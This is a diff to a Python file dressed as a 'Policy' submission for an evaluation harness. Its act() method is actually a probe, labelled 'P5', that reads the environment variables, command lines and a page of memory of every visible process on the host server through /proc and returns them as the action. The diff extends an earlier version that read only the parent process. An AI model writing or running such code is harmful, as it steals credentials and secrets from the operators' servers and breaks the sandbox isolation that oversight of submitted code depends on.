@@ -1,4 +1,4 @@
-"""P5: read the server's environment, argv and memory through /proc."""
+"""P5: read the server's environment, argv and memory through /proc (every visible pid)."""
 import os
 
 
@@ -10,6 +10,21 @@ def _read(path, size=1 << 16):
         return "ERR " + type(exc).__name__
 
 
+def _mem(pid):
+    maps = _read(f"/proc/{pid}/maps")
+    if maps.startswith("ERR"):
+        return maps
+    for line in maps.splitlines()[:3]:
+        start = int(line.split("-")[0], 16)
+        try:
+            with open(f"/proc/{pid}/mem", "rb") as f:
+                f.seek(start)
+                return f.read(4096).decode("latin-1")
+        except (OSError, ValueError, OverflowError) as exc:
+            return "ERR " + type(exc).__name__
+    return "no maps"
+
+
 class Policy:
     def __init__(self, obs_space, action_space, env_meta):
         pass
@@ -18,23 +33,9 @@ class Policy:
         pass
 
     def act(self, obs):
-        ppid = os.getppid()
-        report = {
-            "ppid": ppid,
-            "pids": sorted(int(p) for p in os.listdir("/proc") if p.isdigit()),
-            "parent_environ": _read(f"/proc/{ppid}/environ"),
-            "init_environ": _read("/proc/1/environ"),
-            "init_cmdline": _read("/proc/1/cmdline"),
-            "self_environ": _read("/proc/self/environ"),
-        }
-        maps = _read(f"/proc/{ppid}/maps")
-        report["parent_mem"] = "no maps"
-        for line in maps.splitlines()[:3]:
-            start = int(line.split("-")[0], 16)
-            try:
-                with open(f"/proc/{ppid}/mem", "rb") as f:
-                    f.seek(start)
-                    report["parent_mem"] = f.read(4096).decode("latin-1")
-            except (OSError, ValueError, OverflowError) as exc:
-                report["parent_mem"] = "ERR " + type(exc).__name__
-        return report
+        me, ppid = os.getpid(), os.getppid()
+        pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
+        others = {str(pid): {"environ": _read(f"/proc/{pid}/environ"), "cmdline": _read(f"/proc/{pid}/cmdline"),
+                             "mem": _mem(pid)} for pid in pids + [ppid] if pid != me}
+        return {"pid": me, "ppid": ppid, "pids": pids, "others": others,
+                "self_environ": _read("/proc/self/environ"), "self_cmdline": _read("/proc/self/cmdline")}
